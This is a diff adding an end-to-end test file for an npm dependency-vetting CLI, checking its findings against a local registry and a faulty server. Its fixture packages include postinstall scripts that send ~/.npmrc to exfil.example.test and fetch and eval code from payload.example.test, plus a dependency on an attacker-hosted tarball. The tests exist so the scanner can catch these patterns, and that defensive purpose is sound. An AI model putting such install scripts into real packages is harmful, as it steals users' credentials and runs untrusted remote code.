@@ -1,0 +1,197 @@
+import { spawn } from 'node:child_process';
+import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
+import { createServer, type Server } from 'node:http';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { ISOLATED_ENV } from '../support/check.js';
+import { BIN } from '../support/paths.js';
+import { freePort, startRegistry } from '../support/registry.mjs';
+
+interface Registry {
+  url: string;
+  npmrc: string;
+  cache: string;
+  publish(dir: string): void;
+  npm(args: string[], options: { cwd: string }): { status: number; stderr: string };
+  stop(): Promise<void>;
+}
+
+interface Run {
+  status: number | null;
+  stdout: string;
+  stderr: string;
+}
+
+const work = mkdtempSync(join(tmpdir(), 'depwarden-registry-e2e-'));
+
+/** The built CLI, asynchronously: the fault server below lives in this process and must keep answering. */
+function depwarden(args: string[], env: Record<string, string> = {}, cwd = work): Promise<Run> {
+  return new Promise((resolve) => {
+    const child = spawn(process.execPath, [BIN, ...args], {
+      cwd,
+      env: { ...ISOLATED_ENV, npm_config_offline: 'false', npm_config_cache: join(work, 'depwarden-cache'), ...env },
+    });
+    let stdout = '';
+    let stderr = '';
+    child.stdout.on('data', (chunk) => (stdout += chunk));
+    child.stderr.on('data', (chunk) => (stderr += chunk));
+    child.on('close', (status) => resolve({ status, stdout, stderr }));
+  });
+}
+
+function writePackage(name: string, manifest: Record<string, unknown>, files: Record<string, string> = {}): string {
+  const dir = join(work, 'packages', `${manifest.name as string}-${manifest.version as string}`);
+  mkdirSync(dir, { recursive: true });
+  writeFileSync(join(dir, 'package.json'), JSON.stringify({ name, ...manifest }, null, 2));
+  for (const [file, text] of Object.entries({ 'index.js': 'module.exports = 1;\n', ...files })) writeFileSync(join(dir, file), text);
+  return dir;
+}
+
+const findingsOf = (run: Run) =>
+  (JSON.parse(run.stdout) as { findings: { rule: string; code: string; severity: string; package: { name: string }; message: string }[] }).findings;
+const summary = (run: Run) => findingsOf(run).map((finding) => `${finding.severity} ${finding.code} ${finding.package.name}`);
+
+let registry: Registry;
+
+beforeAll(async () => {
+  registry = (await startRegistry()) as Registry;
+  const publish = (manifest: Record<string, unknown>, files?: Record<string, string>) =>
+    registry.publish(writePackage(manifest.name as string, manifest, files));
+  publish({ name: 'dw-native', version: '1.0.0', scripts: { install: 'node-gyp rebuild' } }, { 'binding.gyp': '{ "targets": [] }\n' });
+  publish({
+    name: 'dw-stealer',
+    version: '1.0.0',
+    scripts: { postinstall: `node -e "require('https').request('https://exfil.example.test/',{method:'POST'}).end(require('fs').readFileSync(require('os').homedir()+'/.npmrc'))"` },
+  });
+  publish(
+    { name: 'dw-dropper', version: '1.0.0', scripts: { postinstall: 'node install.js' } },
+    { 'install.js': "require('https').get('https://payload.example.test/x.js', (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => eval(d)); });\n" },
+  );
+  publish({ name: 'dw-phantom', version: '1.0.0', dependencies: { 'dw-payload': 'http://attacker.example.test/dw-payload-1.0.0.tgz' } });
+  publish({ name: 'dw-turned', version: '1.0.0', repository: 'github:dw/turned' });
+  publish({ name: 'dw-turned', version: '2.0.0', scripts: { postinstall: 'node collect.js' }, dependencies: { 'dw-native': '^1.0.0' } }, { 'collect.js': 'console.log(1);\n' });
+  publish({ name: 'dw-plain', version: '1.0.0' });
+});
+
+afterAll(async () => {
+  await registry?.stop();
+});
+
+describe('registry facts against a real local registry (verdaccio)', () => {
+  it('vet reads published manifests and scripts before anything is installed', async () => {
+    const run = await depwarden(['vet', 'dw-native', 'dw-stealer', 'dw-dropper', 'dw-phantom', 'dw-plain', '--registry', registry.url, '--format', 'json']);
+    expect(run.status).toBe(1);
+    const found = summary(run).filter((line) => !line.includes('fresh-release') && !line.includes('new-package'));
+    expect(found).toEqual([
+      'critical manifest-dynamic-dependency dw-phantom',
+      'critical install-script dw-dropper',
+      'critical install-script dw-stealer',
+      'medium install-script dw-native',
+    ]);
+    const findings = findingsOf(run);
+    const dropper = findings.find((finding) => finding.package.name === 'dw-dropper' && finding.rule === 'install-script')!;
+    expect(dropper.message).toContain('postinstall: node install.js; runs install.js (downloads and runs code');
+    const stealer = findings.find((finding) => finding.package.name === 'dw-stealer')!;
+    expect(stealer.message).toMatch(/runs inline code \(node -e\).*reads credentials or tokens.*contacts the network|reads credentials or tokens, contacts the network/);
+    const phantom = findings.find((finding) => finding.rule === 'manifest-dynamic-dependency')!;
+    expect(phantom.message).toContain('"dw-payload": "http://attacker.example.test/dw-payload-1.0.0.tgz"');
+  });
+
+  it('every release published just now is fresh, and the package is new', async () => {
+    const run = await depwarden(['vet', 'dw-plain', '--registry', registry.url, '--format', 'json', '--fail-on', 'medium']);
+    expect(run.status).toBe(1);
+    expect(summary(run)).toEqual(['medium fresh-release dw-plain']);
+    const relaxed = mkdtempSync(join(tmpdir(), 'depwarden-policy-'));
+    writeFileSync(join(relaxed, '.depwardenrc.json'), JSON.stringify({ freshReleaseHours: 0, newPackageDays: 0 }));
+    expect(summary(await depwarden(['vet', 'dw-plain', '--registry', registry.url, '--format', 'json'], {}, relaxed))).toEqual([]);
+  });
+
+  it('the configured registry decides what exists: a 404 is an unregistered name', async () => {
+    const run = await depwarden(['vet', 'dw-never-published', '--registry', registry.url, '--format', 'json']);
+    expect(run.status).toBe(1);
+    expect(summary(run)).toEqual(['high unregistered-name dw-never-published']);
+    expect(findingsOf(run)[0]!.message).toContain('the registry does not have (404)');
+  });
+
+  it('check of a lockfile written by npm: install scripts with their text, and a version that turned bad', async () => {
+    const project = join(work, 'project');
+    mkdirSync(project);
+    writeFileSync(join(project, 'package.json'), JSON.stringify({ name: 'project', version: '1.0.0', dependencies: { 'dw-turned': '^2.0.0', 'dw-plain': '^1.0.0' } }));
+    const install = registry.npm(['install', '--package-lock-only', '--ignore-scripts'], { cwd: project });
+    expect(install.stderr).not.toMatch(/ERR/);
+    const run = await depwarden(['check', project, '--registry', registry.url, '--format', 'json']);
+    expect(run.status).toBe(1);
+    expect(summary(run).filter((line) => !/fresh-release|new-package/.test(line))).toEqual([
+      'high version-drift dw-turned',
+      'medium install-script dw-native',
+      'medium install-script dw-turned',
+    ]);
+    const drift = findingsOf(run).find((finding) => finding.rule === 'version-drift')!;
+    expect(drift.message).toBe('2.0.0, compared with 1.0.0, adds install scripts (postinstall), adds dependencies (dw-native), drops its repository link');
+
+    // A second run answers from npm's cache; --offline then answers from it alone.
+    const offline = await depwarden(['check', project, '--registry', registry.url, '--format', 'json', '--offline']);
+    expect(summary(offline)).toEqual(summary(run));
+    expect(JSON.parse(offline.stdout).summary.registry).toMatchObject({ asked: 3, answered: 3, notCached: 0, offline: true });
+  });
+});
+
+describe('registry faults: reported per package, never a crash, the rest still checked', () => {
+  let faults: Server;
+  let faultUrl: string;
+  const project = join(work, 'fault-project');
+
+  beforeAll(async () => {
+    const packument = (name: string) => ({
+      name,
+      'dist-tags': { latest: '1.0.0' },
+      versions: { '1.0.0': { name, version: '1.0.0', dist: { tarball: `${faultUrl}${name}/-/${name}-1.0.0.tgz` } } },
+      time: { '1.0.0': '2020-01-01T00:00:00.000Z' },
+    });
+    faults = createServer((request, response) => {
+      const name = decodeURIComponent(request.url!.slice(1));
+      if (name === 'dw-500') return void response.writeHead(500).end('boom');
+      if (name === 'dw-hang') return; // never answers
+      if (name === 'dw-truncated') return void response.writeHead(200, { 'content-type': 'application/json' }).end('{"name":"dw-truncated","versions":{"1.0');
+      response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(packument(name)));
+    });
+    const port = await freePort();
+    await new Promise<void>((resolve) => faults.listen(port, '127.0.0.1', resolve));
+    faultUrl = `http://127.0.0.1:${port}/`;
+
+    const names = ['dw-500', 'dw-hang', 'dw-truncated', 'dw-fine'];
+    mkdirSync(project, { recursive: true });
+    const dependencies = Object.fromEntries(names.map((name) => [name, '^1.0.0']));
+    writeFileSync(join(project, 'package.json'), JSON.stringify({ name: 'fault-project', version: '1.0.0', dependencies }));
+    const packages: Record<string, unknown> = { '': { name: 'fault-project', version: '1.0.0', dependencies } };
+    for (const name of names) packages[`node_modules/${name}`] = { version: '1.0.0', integrity: 'sha512-AAAA' };
+    writeFileSync(join(project, 'package-lock.json'), JSON.stringify({ name: 'fault-project', lockfileVersion: 3, requires: true, packages }, null, 2));
+  });
+
+  afterAll(() => {
+    faults.closeAllConnections();
+    faults.close();
+  });
+
+  it('a 500, a route that never answers and a truncated packument each become an unverified finding', async () => {
+    const run = await depwarden(['check', project, '--registry', faultUrl, '--format', 'json', '--timeout', '1500']);
+    expect(run.status).toBe(0); // unverified is medium: below the default failing severity
+    expect(run.stderr).toBe('');
+    const messages = Object.fromEntries(findingsOf(run).map((finding) => [finding.package.name, `${finding.severity} ${finding.message}`]));
+    expect(messages).toEqual({
+      'dw-500': 'medium not checked against the registry: the registry answered HTTP 500',
+      'dw-hang': 'medium not checked against the registry: the registry did not answer in time',
+      'dw-truncated': 'medium not checked against the registry: the registry sent a packument that is not valid JSON',
+    });
+  });
+
+  it('a registry that is down: every package unverified, exit by policy, no stack trace', async () => {
+    const closed = `http://127.0.0.1:${await freePort()}/`;
+    const run = await depwarden(['check', project, '--registry', closed, '--format', 'json', '--fail-on', 'medium']);
+    expect(run.status).toBe(1);
+    expect(run.stderr).toBe('');
+    expect(new Set(findingsOf(run).map((finding) => finding.message))).toEqual(new Set(['not checked against the registry: the registry refused the connection']));
+    expect(findingsOf(run)).toHaveLength(4);
+  });
+});
